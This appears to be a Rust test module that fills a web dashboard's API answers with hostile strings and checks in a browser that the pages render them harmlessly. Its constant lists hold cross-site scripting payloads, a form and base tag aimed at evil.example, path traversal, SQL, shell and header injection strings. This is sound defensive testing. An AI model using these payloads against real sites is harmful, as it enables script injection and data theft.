//! Whatever stands in an answer of the API: a page shows it, and nothing comes of it.
//!
//! Here pages do not get the API's answers but ones that are made from the description: every field that may be a text has a hostile one, or
//! a harmless one in its place. A browser compares the elements of both (tests/browser/hostile.py).

use std::{
    fmt::Write as _,
    io::Write as _,
    process::{Command, Stdio},
    sync::{Arc, LazyLock},
};

use axum::http::HeaderMap;
use serde_json::{Map, Value, json};
use tokio::net::TcpListener;
use turnwise::{Timestamp, Turnwise};

use crate::{
    Service, document,
    page::{frame::now, pages},
    routes::{Route, Verb},
    service::Asker,
};

/// Makes an answer in place of the API's.
pub(crate) type Instead = Arc<dyn Fn(&Route, &Asker) -> Value + Send + Sync>;

static DOCUMENT: LazyLock<Value> = LazyLock::new(document);
/// When everything has happened: within the hour that charts show.
static THEN: LazyLock<Timestamp> = LazyLock::new(|| now().minus(std::time::Duration::from_secs(600)));

/// What a text may break out of.
const AROUND: [&str; 20] = [
    "",
    "\">",
    "'>",
    "</td></tr></table>",
    "</code></pre>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "-->",
    "]]>",
    "\" ",
    "' ",
    "` ",
    "&quot;&gt;",
    "%22%3E",
    "\\\">",
    "\r\n\r\n",
    "\u{2028}",
    "</svg></template></select>",
];
/// What it may bring with it. `hit` notes that it ran.
const INSIDE: [&str; 8] = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()><g/></svg>",
    "<a href=\"javascript:hit()\">x</a>",
    "onfocus=hit() autofocus onmouseover=hit() style=position:fixed x=",
    "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>",
    "<style>*{display:none}</style><base href=//evil.example>",
    "<details open ontoggle=hit()><form id=page action=//evil.example><input name=body></form>",
];
/// Hostile by themselves.
const ALONE: [&str; 48] = [
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    " javascript:hit()",
    "\u{1}javascript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "//evil.example/x",
    "https://evil.example/x",
    "\\\\evil.example\\x",
    "../../../etc/passwd",
    "..",
    ".",
    "?done=cancelJob",
    "#main",
    "a/b?c=d&e=f#g",
    "&amp;lt;script&amp;gt;",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#106;avascript:hit()",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
    "page",
    "fragment",
    "null",
    "undefined",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "\u{202e}evil\u{202d}",
    "\u{2066}\u{2067}\u{2068}unclosed",
    "\u{200b}\u{200d}\u{feff}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "\u{fffd}\u{10ffff}\u{e000}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "tab\tfeed\u{c}line\nreturn\rend",
    "\r",
    "\rdata: {}\r\revent: reset\r",
    "'; drop table turnwise_job; --",
    "$(hit) `hit` ; hit | hit && hit",
    "state:failed group:\"x\" error~\"(a+)+$\"",
    "\"\\\"\\\\\"",
    "--help",
    "-rf",
    "%00%0d%0aset-cookie:%20a=b",
    "<",
];
/// Rounds after which only texts differ.
const SHAPES: usize = 8;
/// Hostile texts that every field has once.
const TEXTS: usize = 200;

static HOSTILE: LazyLock<Vec<String>> = LazyLock::new(|| {
    let both = AROUND.iter().flat_map(|around| INSIDE.iter().map(move |inside| format!("{around}{inside}")));
    let long = ["x".repeat(5_000), "<b>".repeat(500)];
    let all: Vec<_> = ALONE.map(str::to_owned).into_iter().chain(both).chain(long).collect();
    assert!(all.len() >= TEXTS, "{}", all.len());
    all
});

/// One way to fill all fields.
struct Fill {
    hostile: bool,
    round: usize,
    at: usize,
}

impl Fill {
    /// As the request says: `h17` or `p17` in a header, or in a cookie.
    fn of(headers: &HeaderMap) -> Self {
        let cookie = headers.get("cookie").and_then(|cookie| cookie.to_str().ok());
        let cookie = cookie.and_then(|text| text.split("; ").find_map(|pair| pair.strip_prefix("round=")));
        let said = headers.get("x-round").and_then(|value| value.to_str().ok()).or(cookie).unwrap_or("p0");
        Self { hostile: said.starts_with('h'), round: said[1..].parse().unwrap_or_default(), at: 0 }
    }

    /// In each round every field has another text; two fields never have the same one, hostile or not.
    fn text(&mut self) -> String {
        self.at += 1;
        let number = (self.at + self.round) % HOSTILE.len();
        if self.hostile { HOSTILE[number].clone() } else { format!("plain{number}") }
    }

    /// Of numbers, and of words of which there are a few, there are so many choices: pages of these rounds have all elements that there are.
    fn number(&mut self) -> usize {
        self.at += 1;
        self.at + self.round % SHAPES
    }

    /// A value that has everything that the schema names.
    fn value(&mut self, schema: &Value) -> Value {
        if let Some(reference) = schema["$ref"].as_str() {
            return self.value(&DOCUMENT["components"]["schemas"][reference.rsplit('/').next().unwrap()]);
        }
        if let Some(choices) = schema["anyOf"].as_array() {
            // All that one of them has.
            let made = choices.iter().filter(|choice| choice["type"] != "null").map(|choice| self.value(choice));
            let made: Vec<_> = made.collect();
            let objects: Option<Vec<_>> = made.iter().map(Value::as_object).collect();
            let merged = objects.map(|all| all.into_iter().flatten().map(|(k, v)| (k.clone(), v.clone())).collect());
            return merged.map_or_else(|| made.into_iter().next().unwrap_or_default(), Value::Object);
        }
        if let Some(words) = schema["enum"].as_array() {
            let words: Vec<_> = words.iter().filter(|word| !word.is_null()).collect();
            return words[self.number() % words.len()].clone();
        }
        let kind = match &schema["type"] {
            Value::Array(kinds) => kinds.iter().find(|kind| *kind != "null").and_then(Value::as_str),
            one => one.as_str(),
        };
        match kind {
            Some("object") => self.object(schema),
            Some("array") => (0..3).map(|_| self.value(&schema["items"])).collect(),
            Some("string") => match schema["format"].as_str() {
                None => self.text().into(),
                Some("date-time") => THEN.to_string().into(),
                Some("uuid") => format!("01890163-d869-7739-8aea-{:012x}", self.number()).into(),
                Some(other) => panic!("a text of format {other} has no hostile values here"),
            },
            Some("integer" | "number") => (self.number() % 5 + 1).into(),
            Some("boolean") => self.number().is_multiple_of(2).into(),
            Some(other) => panic!("{other}"),
            // Any JSON, such as a job's arguments.
            None => json!({ self.text(): self.text(), "list": [self.text(), 1.50, null] }),
        }
    }

    fn object(&mut self, schema: &Value) -> Value {
        let mut object = Map::new();
        for (name, member) in schema["properties"].as_object().into_iter().flatten() {
            object.insert(name.clone(), self.value(member));
        }
        if schema["additionalProperties"].is_object() {
            let (name, member) = (self.text(), self.value(&schema["additionalProperties"]));
            object.insert(name, member);
        }
        Value::Object(object)
    }
}

fn answer(route: &Route, asker: &Asker) -> Value {
    let schema = json!({ "$ref": route.output.1 });
    Fill::of(&asker.headers).value(&schema)
}

#[test]
fn every_text_of_an_answer_is_a_hostile_one() {
    fn texts(value: &Value, found: &mut Vec<String>) {
        match value {
            Value::String(text) => found.push(text.clone()),
            Value::Array(values) => values.iter().for_each(|value| texts(value, found)),
            Value::Object(members) => members.values().for_each(|value| texts(value, found)),
            _ => {}
        }
    }
    for name in ["JobInFull", "Jobs", "Queues", "Groups", "Findings", "AuditLines", "Log", "Why"] {
        let made = Fill { hostile: true, round: 0, at: 0 }.value(&json!({ "$ref": name }));
        let mut found = Vec::new();
        texts(&made, &mut found);
        let hostile = found.iter().filter(|text| HOSTILE.contains(text)).count();
        assert!(hostile > 0, "{name}: {made}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs Chromium and its driver; ./check runs it"]
async fn hostile_values_make_no_other_elements_than_harmless_ones() {
    let service = Service::new(Turnwise::open("memory:").await.unwrap());
    service.answer_instead(Arc::new(answer));
    let listening = service.listen(TcpListener::bind("127.0.0.1:0").await.unwrap(), None).unwrap();
    let shown = pages().into_iter().filter(|page| matches!(page.verb, Verb::Get) && !page.path.starts_with("/assets/"));
    // Who logs out sees nothing more, and how many may log in is limited.
    let sent =
        pages().into_iter().filter(|page| page.verb == Verb::Post && !["/login", "/logout"].contains(&page.path));
    let plan = json!({
        "root": format!("http://{}", listening.address()),
        "pages": shown.map(|page| page.path).collect::<Vec<_>>(),
        "forms": sent.map(|page| page.path).collect::<Vec<_>>(),
        "hostile": &*HOSTILE,
        "rounds": TEXTS,
        "shapes": SHAPES,
    });
    let compared = tokio::task::spawn_blocking(move || {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser/hostile.py");
        let mut python = Command::new("python3").arg(script).stdin(Stdio::piped()).spawn().unwrap();
        let mut text = String::new();
        write!(text, "{plan}").unwrap();
        python.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        python.wait().unwrap()
    });
    assert!(compared.await.unwrap().success(), "see above");
    listening.stop().await;
}
